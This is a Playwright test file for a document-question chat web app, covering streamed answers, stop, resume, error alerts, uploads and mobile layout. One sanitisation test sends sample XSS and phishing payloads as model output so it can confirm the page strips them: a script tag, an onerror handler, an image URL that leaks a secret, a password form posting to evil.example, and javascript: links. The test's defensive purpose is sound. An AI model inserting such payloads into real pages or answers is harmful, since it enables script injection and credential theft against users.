"""The chat page in real headless Chromium against real daphne + worker processes.

Answers grow token by token, stop, fail and are cut in every way a network or a
model can; screenshots are saved under test-artifacts/.
"""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import Page, expect

from queries.tests.browser.pages import (
    INGEST_TIMEOUT,
    PASSWORD,
    STREAM,
    ask,
    conversations,
    csrf,
    expect_idle,
    expect_ready,
    last_answer,
    sign_in,
    upload,
)
from queries.tests.conftest import FALCONS
from retrieval.tests import samples
from tests.browser import screenshot
from tests.openai_server import OpenAIServer, Reply

pytestmark = pytest.mark.slow

SERVER_PROBLEM = "The server ran into a problem. Please try again in a moment."
NGINX_502 = """<html>
<head><title>502 Bad Gateway</title></head>
<body>
<center><h1>502 Bad Gateway</h1></center>
<hr><center>nginx/1.24.0</center>
</body>
</html>
"""


def test_a_user_signs_in_uploads_and_sees_the_document_become_ready(context, app, username):
    """Signing in leads to the chat page, where an uploaded file turns Ready."""
    page = context.new_page()
    page.goto(app.url + "/")
    assert "/accounts/login/" in page.url
    sign_in(page, app, username)
    expect(page.get_by_text("No documents yet")).to_be_visible()

    page.get_by_label("Upload").set_input_files(
        files=[{"name": "falcons.txt", "mimeType": "text/plain", "buffer": FALCONS.encode()}]
    )

    item = page.locator("#documents li", has_text="falcons")
    expect(item.locator(".badge")).to_have_text("Ready", timeout=INGEST_TIMEOUT)
    expect(page.get_by_text("No documents yet")).to_be_hidden()


def test_the_answer_streams_in_with_clickable_citations(page, falcons, model):
    """The answer grows token by token while it is written, then its [1] marker finds the source."""
    words = [
        "Peregrine ",
        "falcons ",
        "**dive** ",
        "at ",
        "over ",
        "300 ",
        "km/h ",
        "when ",
        "hunting ",
        "their ",
        "prey ",
        "[1].",
    ]
    model.replies.append(Reply(words, delay=0.2))
    # The browser notes each change of the answer as it happens, so a busy
    # machine slows these tests' reading of the page down, never the record.
    page.evaluate("""() => {
        window.seen = [];
        const note = () => {
            const texts = document.querySelectorAll("article.answer .answer-text");
            const text = texts.length ? texts[texts.length - 1].textContent : "";
            window.seen.push({at: performance.now(), length: text.length,
                              stage: document.getElementById("stage").textContent,
                              busy: document.getElementById("send").disabled});
        };
        new MutationObserver(note).observe(document.getElementById("chat"),
            {childList: true, subtree: true, characterData: true, attributes: true});
    }""")

    ask(page, "How fast does a peregrine falcon dive?")
    answer = last_answer(page)
    expect(answer.locator(".answer-text")).to_contain_text("their prey [1].")
    expect_idle(page)

    seen = page.evaluate("window.seen")
    growing = [s for s in seen if s["busy"] and s["length"] > 0]
    lengths = [s["length"] for s in growing]
    assert lengths == sorted(lengths), lengths
    assert len(set(lengths)) >= 4, f"the answer did not grow token by token: {lengths}"
    # 12 tokens 0.2 s apart span 2.2 s; an answer held back and sent whole spans ~0 s.
    spread = (growing[-1]["at"] - growing[0]["at"]) / 1000
    assert spread > 1.0, f"all the text came at once ({spread:.2f} s between first and last)"
    assert "Writing the answer…" in {s["stage"] for s in seen}

    expect(answer.locator("strong", has_text="dive")).to_have_count(1)  # Markdown rendered
    sources = answer.get_by_role("listitem")
    expect(sources.first).to_contain_text("falcons.txt")
    answer.locator("a.marker", has_text="[1]").click()
    expect(sources.first).to_have_class(re.compile(r"\bhighlight\b"))
    screenshot(page, "chat-answer.png")


def test_an_answer_taller_than_the_window_is_followed_to_its_sources(page, falcons, model):
    """The view keeps up with the answer as it grows, even when a cited source adds
    more than a line under it at once, and ends on the link to how it was found."""
    lines = [f"Point {n}: peregrine falcons hunt from above.\n\n" for n in range(30)]
    model.replies.append(Reply([*lines, "They dive at over 300 km/h [1]."], delay=0.02))

    ask(page, "Tell me everything about peregrine falcons.")

    answer = last_answer(page)
    expect(answer.get_by_role("listitem").first).to_contain_text("falcons.txt")
    expect_idle(page)
    expect(answer.get_by_text("How this answer was found")).to_be_in_viewport()


def test_a_reader_who_scrolled_up_is_left_where_they_are(page, falcons, model):
    lines = [f"Point {n}: peregrine falcons hunt from above.\n\n" for n in range(40)]
    model.replies.append(Reply([*lines, "They dive at over 300 km/h [1]."], delay=0.05))

    ask(page, "Tell me everything about peregrine falcons.")
    answer = last_answer(page)
    expect(answer).to_contain_text("Point 20")
    page.locator("#messages").evaluate("(el) => { el.scrollTop = 0; }")
    expect_idle(page)

    expect(page.locator("#messages .question").first).to_be_in_viewport()
    expect(answer.get_by_text("How this answer was found")).not_to_be_in_viewport()


def stop_an_answer(page: Page, model: OpenAIServer) -> int:
    """Ask, stop the answer half-way; the model's tokens sent by the time Stop was clicked."""
    model.replies.append(Reply([f"word{i} " for i in range(300)], delay=0.1))  # 30 s in all
    ask(page, "Where do peregrine falcons nest?")
    expect(last_answer(page)).to_contain_text("word3")
    page.get_by_role("button", name="Stop").click()
    at_stop = model.tokens_sent
    expect(last_answer(page).locator(".note")).to_have_text("Stopped.")
    expect_idle(page)
    return at_stop


def test_stop_ends_the_answer_and_the_models_stream(page, falcons, model):
    """Stop marks the answer stopped and the model is asked for no more tokens."""
    at_stop = stop_an_answer(page, model)
    after = model.settled_tokens()  # still changing after 15 s: never settles
    # A few tokens may be in flight while the cancel travels from the browser to the
    # model server; 50 (5 s of tokens) leaves room for two busy cores. Not cancelled,
    # the model would send ~150 more before settled_tokens gives up.
    assert after - at_stop < 50, f"the model kept streaming after Stop ({at_stop} -> {after})"
    assert "word3" in last_answer(page).inner_text()  # the partial answer stays


def test_a_follow_up_after_stop_continues_the_stopped_conversation(page, falcons, model):
    """A stopped first answer has started a conversation, and the next question joins it."""
    stop_an_answer(page, model)
    expect(page.locator("#conversations button.conversation[aria-current]")).to_have_count(1)
    expect(conversations(page)).to_have_count(1)

    model.completions.append(Reply(["Where do peregrine falcons nest in cities?"]))
    model.replies.append(Reply(["On ", "tall ", "buildings ", "[1]."]))
    ask(page, "and in cities?")
    expect(last_answer(page).locator(".answer-text")).to_contain_text("buildings")
    expect_idle(page)
    expect(conversations(page)).to_have_count(1)
    rewrites = [r["body"] for r in model.requests if "and in cities?" in str(r["body"])]
    assert rewrites and not rewrites[0].get("stream"), "the follow-up was not rewritten"
    assert "Where do peregrine falcons nest?" in str(rewrites[0]["messages"])


def test_a_past_conversation_reopens_and_continues(page, app, falcons, model):
    """A conversation from the sidebar shows its earlier turns and takes a follow-up."""
    model.replies.append(Reply(["Peregrine ", "falcons ", "dive ", "at ", "300 ", "km/h ", "[1]."]))
    earlier = page.request.post(
        app.url + "/api/query/",
        data={"query": "How fast does a peregrine falcon dive?"},
        headers=csrf(page),
    )
    assert earlier.ok, earlier.text()
    page.reload()
    conversations(page).filter(has_text="How fast does a peregrine").click()

    expect(page.locator(".question")).to_have_text(["How fast does a peregrine falcon dive?"])
    expect(page.locator("article.answer").first).to_contain_text("300 km/h")

    model.completions.append(Reply(["Where do peregrine falcons nest?"]))  # the rewrite
    model.replies.append(Reply(["On ", "cliffs ", "and ", "tall ", "buildings ", "[1]."]))
    ask(page, "and where do they nest?")
    expect(last_answer(page).locator(".answer-text")).to_contain_text("buildings")
    expect_idle(page)
    expect(page.locator(".question")).to_have_count(2)  # the reopened turn plus the follow-up
    expect(conversations(page)).to_have_count(1)
    screenshot(page, "chat-conversation.png")


def test_markdown_from_the_model_is_sanitised(page, app, falcons, model):
    """Markup in an answer renders as text and formatting, never as scripts, images or forms."""
    fetched = []
    page.on("request", lambda request: fetched.append(request.url))
    model.replies.append(
        Reply(
            [
                "Safe **bold** text ",
                '<img src="x" onerror="window.hacked=1"> ',
                "<script>window.hacked=2</script> ",
                f"![chart]({app.url}/exfil?secret=42) ",
                '<form action="https://evil.example/"><input type="password" name="pw">',
                "<button>Sign in again</button></form> ",
                '<span id="question">shadow</span> ',
                "Use `arr[1]` in code; falcons are fast![1] ",
                "[link](javascript:window.hacked=3) [1] ",
                "[your bank](https://evil.example/login) ",
                "<https://falcons.example/facts>",
            ]
        )
    )

    ask(page, "Tell me about falcons")
    answer = last_answer(page)
    expect(answer.locator(".answer-text")).to_contain_text("falcons are fast")
    expect_idle(page)

    expect(answer.locator("strong", has_text="bold")).to_have_count(1)
    assert page.evaluate("window.hacked") is None
    expect(answer.locator("script, [onerror], a[href^='javascript']")).to_have_count(0)
    expect(answer.locator(".answer-text :is(img, form, input, button, [id])")).to_have_count(0)
    assert not [url for url in fetched if "exfil" in url]
    expect(answer.locator("code")).to_have_text("arr[1]")
    expect(answer.locator(".answer-text a.marker")).to_have_count(2)
    expect(page.locator("#question")).to_have_count(1)  # the page's own box, not the answer's
    for link in answer.locator(".answer-text a", has_text="link").all():
        link.click(force=True)
    assert page.evaluate("window.hacked") is None
    # A link says where it really goes, unless its words already do.
    expect(answer.locator(".answer-text")).to_contain_text("your bank (evil.example)")
    expect(answer.locator(".answer-text")).not_to_contain_text("facts (falcons.example)")
    expect(answer.locator(".answer-text .link-host")).to_have_count(1)


def test_a_model_failure_mid_answer_keeps_the_text_and_explains(page, falcons, model):
    """A model error half-way keeps the text so far and an alert says why."""
    model.replies.append(Reply(["Half ", "an ", "answer"], fail_after=2))
    ask(page, "Why are falcons fast?")
    expect(page.get_by_role("alert")).to_contain_text("did not answer")
    expect(last_answer(page).locator(".answer-text")).to_have_text("Half an")
    expect(last_answer(page).locator(".note")).to_have_text("This answer failed.")
    expect_idle(page)


NEST = ["Peregrine ", "falcons ", "nest ", "on ", "cliffs ", "and ", "buildings ", "[1]."]


def border_colour(answer) -> str:
    return answer.evaluate("(el) => getComputedStyle(el).borderTopColor")


def expect_cut_answer(page: Page, alert_text: str) -> None:
    """The first three words of NEST, an alert saying why, and the answer framed as failed."""
    expect(page.get_by_role("alert")).to_have_text(alert_text)
    cut = page.locator("article.answer").first
    expect(cut.locator(".answer-text")).to_have_text("Peregrine falcons nest")
    expect(cut).to_have_class(re.compile(r"\bfailed\b"))
    expect(cut.locator(".note")).to_have_text("This answer failed.")
    expect_idle(page)


def expect_asking_again_works(page: Page, model: OpenAIServer) -> None:
    """The question asked again is answered whole; the cut answer above still looks cut."""
    model.completions.append(Reply(["Where do peregrine falcons nest?"]))  # the rewrite
    model.replies.append(Reply(NEST))
    ask(page, "Where do they nest?")
    answers = page.locator("article.answer")
    expect(answers).to_have_count(2)
    expect(answers.nth(1).locator(".answer-text")).to_have_text(
        "Peregrine falcons nest on cliffs and buildings [1]."
    )
    expect_idle(page)
    expect(page.get_by_role("alert")).to_be_hidden()
    expect(answers.nth(0).locator(".answer-text")).to_have_text("Peregrine falcons nest")
    # the alert is gone: the cut answer's own frame is what still tells it apart
    assert border_colour(answers.nth(0)) != border_colour(answers.nth(1))


def test_an_answer_cut_off_by_the_model_server_shows_what_came_and_can_be_asked_again(
    page, falcons, model
):
    """The model server dropping the connection leaves the partial answer and a clear alert."""
    model.replies.append(Reply(NEST, cut_after=3, delay=0.05))
    ask(page, "Where do peregrine falcons nest?")
    expect_cut_answer(page, "The model stopped before finishing its answer.")
    expect_asking_again_works(page, model)


def cut_after_three_tokens(kept: list[str]):
    """A proxy that passes on the app's real answer up to its third token, then ends it."""

    def handle(route):
        whole = route.fetch()
        tokens = 0
        for frame in whole.text().split("\n\n"):
            kept.append(frame)
            tokens += "event: token" in frame
            if tokens == 3:
                break
        route.fulfill(
            status=200,
            headers={
                "Content-Type": whole.headers["content-type"],
                "X-Conversation-Id": whole.headers["x-conversation-id"],
                "X-Message-Id": whole.headers["x-message-id"],
            },
            body="\n\n".join(kept) + "\n\n",
        )

    return handle


def test_a_stream_cut_before_its_last_event_is_resumed_and_completes(page, falcons, model):
    """The page asks again for what it missed after the last event it got, and shows it."""
    kept: list[str] = []
    resumed: list[dict] = []
    page.on(
        "request",
        lambda r: resumed.append(r.headers) if re.search(r"/stream/[0-9a-f-]{36}/$", r.url) else 0,
    )
    page.route(STREAM, cut_after_three_tokens(kept), times=1)
    model.replies.append(Reply(NEST))
    ask(page, "Where do peregrine falcons nest?")

    answer = last_answer(page)
    expect(answer.locator(".answer-text")).to_have_text(
        "Peregrine falcons nest on cliffs and buildings [1]."
    )
    expect_idle(page)
    assert not [frame for frame in kept if "event: done" in frame or "event: error" in frame]
    assert len(resumed) == 1 and re.fullmatch(r"t\d+", resumed[0]["last-event-id"]), resumed
    expect(page.get_by_role("alert")).to_be_hidden()
    expect(answer).not_to_have_class(re.compile(r"\bfailed\b"))
    expect(answer.locator(".citations li")).to_have_count(1)  # the sources once, not twice


def test_a_stream_that_cannot_be_resumed_says_the_answer_stopped(page, falcons, model):
    """When the answer cannot be fetched again, the partial answer stays with an alert."""
    kept: list[str] = []
    page.route(STREAM, cut_after_three_tokens(kept), times=1)
    page.route(
        re.compile(r".*/api/query/stream/[0-9a-f-]{36}/$"),
        lambda route: route.fulfill(status=502, body="Bad Gateway"),
    )
    model.replies.append(Reply(NEST))
    ask(page, "Where do peregrine falcons nest?")
    expect_cut_answer(page, "The answer stopped unexpectedly. Please ask again.")
    expect_asking_again_works(page, model)


def test_a_proxy_502_page_is_explained_in_a_sentence_not_shown_as_html(page):
    """A proxy's HTML error page instead of the stream gives a readable alert, no markup."""
    page.route(
        STREAM,
        lambda route: route.fulfill(
            status=502, headers={"Content-Type": "text/html"}, body=NGINX_502
        ),
    )
    ask(page, "Is anyone there?")

    alert = page.get_by_role("alert")
    expect(alert).to_have_text(SERVER_PROBLEM)
    expect(page.locator("#chat")).not_to_contain_text("Bad Gateway")
    expect(page.locator("#chat")).not_to_contain_text("nginx")
    assert "<" not in alert.inner_text()
    expect_idle(page)


def test_a_question_turned_away_by_a_limit_goes_back_into_the_box(page):
    """A 429 before the stream (nothing stored) says why and keeps the question to resend."""
    page.route(
        STREAM,
        lambda route: route.fulfill(
            status=429,
            headers={"Content-Type": "application/json", "Retry-After": "42"},
            body='{"detail": "You have asked 60 questions in a minute, the most allowed. '
            'Try again in 42 seconds.", "code": "throttled"}',
        ),
        times=1,
    )
    ask(page, "How fast does a peregrine dive?")

    expect(page.get_by_role("alert")).to_have_text(
        "You have asked 60 questions in a minute, the most allowed. Try again in 42 seconds."
    )
    expect(page.get_by_label("Ask a question")).to_have_value("How fast does a peregrine dive?")
    expect(page.locator("#messages .question")).to_have_count(0)
    expect(page.locator("article.answer")).to_have_count(0)
    expect_idle(page)


def test_a_lost_connection_is_explained(page):
    """A request that never reaches the server says the connection was lost."""
    page.route(STREAM, lambda route: route.abort("connectionreset"))
    ask(page, "Is the network up?")
    expect(page.get_by_role("alert")).to_have_text(
        "Connection lost. Check your network and try again."
    )
    expect_idle(page)


def test_an_expired_session_offers_to_sign_in_again(page):
    """Asking after the session has gone says so and links to the sign-in page."""
    page.context.clear_cookies()
    ask(page, "Are you still there?")
    alert = page.get_by_role("alert")
    expect(alert).to_contain_text("Your session has expired")
    expect(alert.get_by_role("link", name="Sign in again")).to_be_visible()


def test_the_sidebar_shows_more_conversations_on_request(context, app, username):
    app.manage(
        "shell",
        "-c",
        "from django.contrib.auth.models import User; from queries.models import Conversation; "
        f"owner = User.objects.get(username={username!r}); "
        "[Conversation.objects.create(owner=owner, title=f'Question {n:02}') for n in range(53)]",
    )
    page = context.new_page()
    sign_in(page, app, username)
    listed = page.locator("#conversations li:not(.more)")

    expect(listed).to_have_count(50)
    page.get_by_role("button", name="Show more").click()

    expect(listed).to_have_count(53)
    expect(page.get_by_role("button", name="Show more")).to_have_count(0)
    expect(page.locator("#conversations")).to_contain_text("Question 00")


def test_a_failed_document_shows_its_reason_in_the_sidebar(page):
    """A PDF with nothing to read turns Failed and the sidebar says why beside it."""
    page.get_by_label("Upload").set_input_files(
        files=[
            {
                "name": "blank.pdf",
                "mimeType": "application/pdf",
                "buffer": samples.blank_pdf(),
            }
        ]
    )

    item = page.locator("#documents li", has_text="blank")
    expect(item.locator(".badge")).to_have_text("Failed", timeout=INGEST_TIMEOUT)
    expect(item.locator(".reason")).to_contain_text("This PDF has only blank pages")
    expect(item.locator(".reason")).to_be_visible()
    page.reload()  # still explained when the page is opened later
    expect(item.locator(".reason")).to_contain_text("no text and no pictures")


def test_on_a_phone_in_dark_mode_the_header_fits_and_shift_enter_adds_a_line(
    browser, app, username
):
    """On a phone in dark mode, Shift+Enter adds a line, the header fits and the menu opens."""
    context = browser.new_context(
        viewport={"width": 390, "height": 844}, color_scheme="dark", is_mobile=True, has_touch=True
    )
    try:
        phone = context.new_page()
        phone.goto(app.url + "/accounts/login/")
        phone.get_by_label("Username").fill(username)
        phone.get_by_label("Password").fill(PASSWORD)
        phone.get_by_label("Password").press("Enter")
        box = phone.get_by_label("Ask a question")
        expect(box).to_be_visible()
        phone.wait_for_load_state()  # the page's script has run

        box.fill("first line")
        box.press("Shift+Enter")
        box.press_sequentially("second line")
        expect(box).to_have_value("first line\nsecond line")
        expect(phone.locator(".question")).to_have_count(0)  # Shift+Enter did not send

        background = phone.evaluate("getComputedStyle(document.body).backgroundColor")
        assert background == "rgb(21, 22, 26)"
        header = phone.evaluate(
            """() => [...document.querySelectorAll('.topbar h1, .topbar a, .topbar button')]
                .filter((el) => el.offsetParent !== null)
                .map((el) => {
                    const text = document.createRange();
                    text.selectNodeContents(el);
                    return [el.textContent.trim(), text.getClientRects().length,
                            el.scrollWidth <= el.clientWidth];
                })"""
        )
        assert all(lines == 1 and whole for _, lines, whole in header), header  # one row, uncut
        expect(phone.locator("#sidebar")).to_be_hidden()
        phone.get_by_role("button", name="Menu").click()
        expect(phone.locator("#sidebar")).to_be_visible()
        screenshot(phone, "chat-phone-dark.png")
    finally:
        context.close()


def test_files_dropped_on_the_sidebar_are_uploaded(page):
    """Dropped files are uploaded; one the app cannot read is named in the alert."""
    page.evaluate("""() => {
        const transfer = new DataTransfer();
        transfer.items.add(new File(["Kestrels hover while hunting voles."], "kestrels.md",
                                    {type: "text/markdown"}));
        transfer.items.add(new File([new Uint8Array([0, 1, 2, 3, 255])], "junk.txt"));
        const zone = document.getElementById("dropzone");
        zone.dispatchEvent(new DragEvent("drop", {dataTransfer: transfer, bubbles: true,
                                                  cancelable: true}));
    }""")

    item = page.locator("#documents li", has_text="kestrels")
    expect(page.get_by_role("alert")).to_contain_text(
        "junk.txt: This kind of file is not supported"
    )
    expect(item.locator(".badge")).to_have_text("Ready", timeout=INGEST_TIMEOUT)
    expect(page.locator("#documents li")).to_have_count(1)


def test_a_document_is_deleted_only_after_confirmation(page, app):
    """Dismissing the confirmation keeps a document; accepting it removes it."""
    upload(page, app, "falcons.txt", FALCONS.encode())
    upload(page, app, "kestrels.md", b"Kestrels hover while hunting voles.")
    expect_ready(page, "falcons", "kestrels")
    falcons = page.locator("#documents li", has_text="falcons")
    deleted = []
    page.on("request", lambda r: deleted.append(r.url) if r.method == "DELETE" else None)

    page.once("dialog", lambda dialog: dialog.dismiss())
    page.get_by_role("button", name="Delete falcons").click()
    page.once("dialog", lambda dialog: dialog.accept())
    page.get_by_role("button", name="Delete kestrels").click()
    expect(page.locator("#documents li", has_text="kestrels")).to_have_count(0)
    expect(falcons).to_have_count(1)  # dismissed: still there
    assert len(deleted) == 1, deleted

    page.once("dialog", lambda dialog: dialog.accept())
    page.get_by_role("button", name="Delete falcons").click()
    expect(page.get_by_text("No documents yet")).to_be_visible()
    page.reload()
    expect(page.get_by_text("No documents yet")).to_be_visible()
    expect(page.locator("#documents li")).to_have_count(0)


def test_the_documents_page_uploads_and_shows_each_document_in_full(page):
    """The documents page uploads a file, refreshes itself until Ready, and deletes it."""
    page.get_by_role("link", name="Documents", exact=True).click()
    page.get_by_label("Files to upload").set_input_files(
        files=[
            {
                "name": "owls.md",
                "mimeType": "text/markdown",
                "buffer": b"# Owls\n\nBarn owls hunt at night by sound alone.\n",
            }
        ]
    )
    page.get_by_role("button", name="Upload", exact=True).click()
    expect(page.get_by_text("owls.md is queued for processing.")).to_be_visible()

    row = page.get_by_role("row", name="Owls")
    expect(row.get_by_text("Ready")).to_be_visible(timeout=INGEST_TIMEOUT)  # refreshes itself
    expect(row).to_contain_text("owls.md")
    screenshot(page, "documents.png")

    row.get_by_role("link", name="Delete Owls").click()
    page.get_by_role("button", name="Delete").click()
    expect(page.get_by_text("owls.md was deleted.")).to_be_visible()


@pytest.mark.parametrize("line_end", ["\n", "\r\n", "\r"])
def test_the_pages_parser_reads_every_token_exactly(context, app, line_end):
    """The page's SSE parser gets every token back whatever the line ends and chunk sizes."""
    from queries.sse import KEEP_ALIVE, event
    from queries.tests.test_sse import TOKENS

    page = context.new_page()
    page.goto(app.url + "/accounts/login/")
    page.add_script_tag(url=app.url + "/static/queries/sse.js")
    frames = [event("token", t) for t in TOKENS] + [KEEP_ALIVE, event("done", {"ok": True})]
    wire = "".join(frames).replace("\n", line_end)
    for size in (1, 2, 3, 7, 4096):
        read = page.evaluate(
            """([wire, size]) => {
                const events = [], comments = [];
                const parser = new SSEParser(
                    (e, d) => events.push([e, d]), (c) => comments.push(c));
                for (let i = 0; i < wire.length; i += size) parser.feed(wire.slice(i, i + size));
                parser.end();
                return {events, comments};
            }""",
            [wire, size],
        )
        assert read["events"][:-1] == [["token", t] for t in TOKENS], size
        assert read["events"][-1] == ["done", '{"ok": true}'], size
        assert read["comments"] == ["keep-alive"], size
